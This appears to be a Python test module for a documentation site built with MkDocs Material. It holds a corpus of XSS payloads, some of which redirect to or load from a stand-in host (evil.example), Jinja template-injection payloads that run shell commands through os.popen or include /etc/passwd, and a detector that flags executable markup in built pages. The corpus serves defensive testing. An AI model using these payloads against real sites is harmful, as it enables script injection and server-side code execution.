"""A hostile-input corpus: what an attacker would put in a pull request, and where.

Every payload carries its own number (`{n}`), so a build error or a line of HTML can be
traced back to the one placement that caused it. `executable()` lists whatever in a built
page could run a script, load another site or send a reader away.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass, field
from pathlib import Path

import yaml
from bs4 import BeautifulSoup

# Script and markup that must never reach a reader's browser in working order: classic XSS,
# filter evasions, mutation XSS, plugin elements, data: and javascript: URLs, SVG animation,
# redirects, external forms and styles, and ids that would clobber Material's own.
HTML_PAYLOADS = [
    "<script>alert({n})</script>",
    "<svg/onload=alert({n})>",
    "<img src=x onerror=alert({n})>",
    "<img src=x /onerror=alert({n})>",
    '<a href="jav&#x61;script:alert({n})">link {n}</a>',
    "[link {n}](javascript:alert({n}))",
    "`a` <img src=x onerror=alert({n})> `b`",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">',
    '<form action="https://evil.example/{n}"><input name="q"></form>',
    '<base href="https://evil.example/{n}/">',
    '<link rel="stylesheet" href="https://evil.example/{n}.css">',
    "<style>body{background:url(https://evil.example/{n})}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table></mtext></math>",
    '<object data="https://evil.example/{n}.swf"></object>',
    '<embed src="https://evil.example/{n}.swf">',
    '<iframe src="https://evil.example/{n}"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert({n})&lt;/script&gt;"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}">link {n}</a>',
    '<img src="data:image/svg+xml;utf8,&lt;svg onload=alert({n})&gt;">',
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s /></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert({n}) /><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert({n}) /></svg>",
    "<details open ontoggle=alert({n})>x</details>",
    '<div style="background:url(javascript:alert({n}))">x</div>',
    '<a href=" &#14;javascript:alert({n})">link {n}</a>',
    '<button formaction="javascript:alert({n})">go {n}</button>',
    "<input autofocus onfocus=alert({n})>",
    '<div id="__config">{"search": "https://evil.example/{n}.js"}</div>',
]
# Only in a page body: a line Markdown does not take for a fence, which an old check did.
BODY_ONLY_PAYLOADS = ["```{\n<img src=x onerror=alert({n})>\n```"]

# Jinja that tries to reach Python from a page or data file: each would create the canary.
JINJA_PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.popen('touch CANARY-{n}').read() }}",
    "{{ lipsum.__globals__['os'].popen('touch CANARY-{n}').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('touch CANARY-{n}').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('touch CANARY-{n}').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('touch CANARY-{n}').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('touch CANARY-{n}') }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('touch CANARY-{n}').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('touch CANARY-{n}').read() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('touch CANARY-{n}', shell=True) }}{% endif %}{% endfor %}",
    "{{ environment.loader }}{{ plugin.config }} CANARY-{n}",
    "{% include '/etc/passwd' %} CANARY-{n}",
]

# Jinja whose danger is in the structure around the fields (issue 26): audience blocks hidden in a
# comment, a raw block or a macro's string argument (which a view once cut out of the raw text and
# rendered), calls that are not what they seem, blocks in blocks. Each would create the canary.
STRUCTURE_PAYLOADS = [
    '{# {% call for_audience("frontline") %}{{ cycler.__init__.__globals__.os.popen("touch CANARY-{n}") }}'
    "{% endcall %} #}",
    '{% raw %}{% call for_audience("frontline") %}{{ lipsum.__globals__.os.popen("touch CANARY-{n}") }}'
    "{% endcall %}{% endraw %}",
    '{{ law("privacy-act-2020", "{% call for_audience(\'leaders\') %}'
    "{{ joiner.__init__.__globals__.os.popen('touch CANARY-{n}') }}{% endcall %}\") }}",
    '{{ for_audience("frontline") }} CANARY-{n}',
    '{% call(x) for_audience("frontline") %}{{ x.__init__.__globals__ }} CANARY-{n}{% endcall %}',
    "{{ law(*config.hooks) }} CANARY-{n}",
    '{% call for_audience("frontline") %}{% call for_audience("leaders") %}{{ config.theme.get_env() }} '
    "CANARY-{n}{% endcall %}{% endcall %}",
    '{{ law("privacy-act-2020") | attr("__init__") }} CANARY-{n}',
]
# Text that Material reads back as HTML: a title becomes a tooltip with innerHTML, and a heading cut
# short in the contents or navigation is copied into a title first. In a page body:
REPARSED_BODY_PAYLOADS = [
    "## Heading {n} &lt;img src=x onerror=alert({n})&gt;",
    "*[ABBR{n}]: <b onmouseover=alert({n})>x</b>\n\nABBR{n} is an abbreviation.",
    '[a link {n}](https://example.org/ "<img src=x onerror=alert({n})>")',
    "## Heading {n} &#60;svg onload=alert({n})&#62;",
    # Python-Markdown strips tags from a contents title with a pattern that quoted attributes fool:
    # '<!--' and '-->' inside two class values leave a bare <meta> in the title (red team, issue 26).
    "## Sharing {n} <span class='<!--'>with</span><span class=\"-->'><meta http-equiv=refresh "
    'content=0;url=https://evil.example/{n}>">care</span>',
]
# In a title or a data file's text (an escaped copy of either reaches a tooltip):
REPARSED_TEXT_PAYLOADS = [
    "&lt;img src=x onerror=alert({n})&gt;",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">',
]


def fill(payload: str, n: int, canary: Path | None = None) -> str:
    text = payload.replace("{n}", str(n))
    return text.replace("CANARY-", f"{canary}-") if canary else text


# --- a guide cheap to check and dear to draw ---------------------------------------


def guide_with_long_arrows(guide_yaml: str) -> str:
    """A red team's decision guide (tests of content/tools.py MAX_ROWS), from a real one: its first
    question gains an answer to a chain of 80 new questions, each with one answer to the next and
    23 to 90 new outcomes. Its 190 steps and 1,883 paths are under those limits, but its 1,946
    arrows cross 74,810 rows, and Graphviz's dot spent 13 CPU-minutes drawing it."""
    import copy
    import random

    guide = yaml.safe_load(guide_yaml)
    chain, outcomes, each = 80, 90, 23
    pick = random.Random(3)  # the red team's seed: the same guide
    extra = [
        {**copy.deepcopy(guide["outcomes"][0]), "id": f"extra-outcome-{o}", "title": f"Extra outcome number {o}"}
        for o in range(outcomes)
    ]
    questions = [
        {
            "id": f"chain-{i}",
            "text": f"Is question {i} true for you?",
            "answers": [
                {"label": f"Go on to question {i + 1}", "next": f"chain-{i + 1}" if i < chain - 1 else extra[0]["id"]},
                *(
                    {"label": f"Choose outcome {o} from question {i}", "next": f"extra-outcome-{o}"}
                    for o in pick.sample(range(outcomes), each)
                ),
            ],
        }
        for i in range(chain)
    ]
    start = next(q for q in guide["questions"] if q["id"] == guide["start"])
    start["answers"].append({"label": "Something else", "next": "chain-0"})
    guide["questions"] += questions
    guide["outcomes"] += extra

    class Plain(yaml.SafeDumper):  # every value written out: the strict reader refuses aliases
        def ignore_aliases(self, data: object) -> bool:
            return True

    return yaml.dump(guide, Dumper=Plain, sort_keys=False, allow_unicode=True, width=100)


# --- where payloads go ----------------------------------------------------------


@dataclass
class Placement:
    """One payload in one field of one file of a project copy."""

    file: str  # project-relative: docs/x.md, data/glossary.yml
    where: str  # "body", "title", "summary", or a dotted path in a data file: terms.3.definition
    text: str  # the payload, numbered
    line: int | None = None  # where it sits once written


@dataclass
class Mutation:
    """Payloads placed in a copy of the project; written again each time one is taken out."""

    project: Path
    placements: list[Placement] = field(default_factory=list)
    _pristine: dict[str, str] = field(default_factory=dict)

    def add(self, file: str, where: str, text: str) -> None:
        path = self.project / file
        self._pristine.setdefault(file, path.read_text(encoding="utf-8"))
        self.placements.append(Placement(file, where, text))

    def write(self) -> None:
        for file, original in self._pristine.items():
            mine = [p for p in self.placements if p.file == file]
            (self.project / file).write_text(
                _page(original, mine) if file.endswith(".md") else _data(original, mine), encoding="utf-8"
            )
            text = (self.project / file).read_text(encoding="utf-8")
            tree = _tree(text, file)
            for p in mine:
                p.line = _line_of(text, tree, p)


def _page(original: str, placements: list[Placement]) -> str:
    """A page with payloads in its front matter fields and its body."""
    head, body = re.match(r"---\n(.*?\n)---\n(.*)", original, re.DOTALL).groups()
    meta = yaml.load(head, Loader=LOADER)
    body_parts = []
    for p in placements:
        if p.where == "body":
            body_parts.append(p.text)
        else:
            meta[p.where] = f"{meta[p.where]} {p.text}"
    front = yaml.dump(meta, Dumper=DUMPER, allow_unicode=True, sort_keys=False, width=10**6)
    extra = "".join(f"{text}\n\n" for text in body_parts)
    return f"---\n{front}---\n\n{extra}{body}"


def _data(original: str, placements: list[Placement]) -> str:
    data = yaml.load(original, Loader=LOADER)
    for p in placements:
        *parents, last = [int(k) if k.isdigit() else k for k in p.where.split(".")]
        node = data
        for key in parents:
            node = node[key]
        node[last] = f"{node[last]} {p.text}"
    return yaml.dump(data, Dumper=DUMPER, allow_unicode=True, sort_keys=False, width=10**6)


# LibYAML: the corpus is written and its lines found again after every build.
LOADER, DUMPER = getattr(yaml, "CSafeLoader", yaml.SafeLoader), getattr(yaml, "CSafeDumper", yaml.SafeDumper)


def _tree(text: str, file: str) -> tuple[yaml.Node, int]:
    """A file's YAML node tree (a page's front matter, which starts on line 2), and its line offset."""
    if file.endswith(".md"):
        return yaml.compose(text.split("\n---\n", 1)[0].removeprefix("---\n"), Loader=LOADER), 1
    return yaml.compose(text, Loader=LOADER), 0


def _line_of(text: str, tree: tuple[yaml.Node, int], p: Placement) -> int | None:
    """The line a build error would name: the payload's own line in a body, else its YAML value's."""
    if p.where == "body":
        first = p.text.splitlines()[0]
        return next((n for n, line in enumerate(text.splitlines(), 1) if first in line), None)
    node, offset = tree
    for key in p.where.split("."):
        if isinstance(node, yaml.MappingNode):
            node = next(v for k, v in node.value if k.value == key)
        else:
            node = node.value[int(key)]
    return node.start_mark.line + 1 + offset


def string_fields(data, path: tuple = ()) -> list[str]:
    """The dotted path of every string in a parsed YAML file."""
    if isinstance(data, dict):
        return [f for k, v in data.items() for f in string_fields(v, (*path, str(k)))]
    if isinstance(data, list):
        return [f for i, v in enumerate(data) for f in string_fields(v, (*path, str(i)))]
    return [".".join(path)] if isinstance(data, str) else []


# --- the build's answer -----------------------------------------------------------

PROBLEM = re.compile(
    r"^\s+(?P<file>(?:docs|data)/[^:\s]+?)(?::(?P<line>\d+))?: (?:field '(?P<field>[^']+)':)?", re.MULTILINE
)


def accounted(placements: list[Placement], output: str) -> list[Placement]:
    """The placements a failed build named: their file and line, or their file and field."""
    named = [(m["file"], int(m["line"]) if m["line"] else None, m["field"]) for m in PROBLEM.finditer(output)]
    out = []
    for p in placements:
        for file, line, fld in named:
            if file == p.file and (line == p.line or (line is None and fld and p.where.endswith(fld))):
                out.append(p)
                break
    return out


# --- what must never be in a built page --------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc", "background"}
PLUGIN_TAGS = {"object", "embed", "iframe", "frame", "frameset", "applet", "base"}


def executable(page_html: str) -> list[str]:
    """Everything in a page that could run script, load or post to another site, or redirect,
    now or once Material's tooltips put a title (or a shortened heading) into the page as HTML."""
    soup = BeautifulSoup(page_html, "html.parser")
    found = []
    for tag in soup.select(".md-ellipsis"):
        if "<" in tag.get_text():
            found.append(f".md-ellipsis {tag.get_text()[:40]!r}")
    for tag in soup.find_all(True):
        if "<" in (tag.get("title") or ""):
            found.append(f"<{tag.name} title={tag['title'][:40]!r}>")
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else (value or "")
            if name.lower().startswith("on"):
                found.append(f"<{tag.name} {name}=…>")
            if name.lower() in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
                if url.startswith(("javascript:", "vbscript:", "data:text/html")):
                    found.append(f"<{tag.name} {name}={value[:40]}>")
        if tag.name in PLUGIN_TAGS:
            found.append(f"<{tag.name}>")
        if tag.name == "meta" and (tag.get("http-equiv") or "").lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        if tag.name == "form" and tag.get("action"):
            found.append(f"<form action={tag['action'][:40]}>")
        if tag.name == "script" and (tag.get("type") or "text/javascript") != "application/json":
            src = tag.get("src") or ""
            if not src or re.match(r"^([a-z]+:)?//", src):
                found.append(f"<script src={src!r}>")
        loads = {
            "stylesheet",
            "preload",
            "modulepreload",
            "prefetch",
            "preconnect",
            "dns-prefetch",
            "icon",
            "manifest",
            "import",
        }
        if (
            tag.name == "link"
            and loads & set(tag.get("rel") or [])
            and re.match(r"^([a-z]+:)?//", tag.get("href") or "")
        ):
            found.append(f"<link href={tag['href'][:40]}>")
    return found
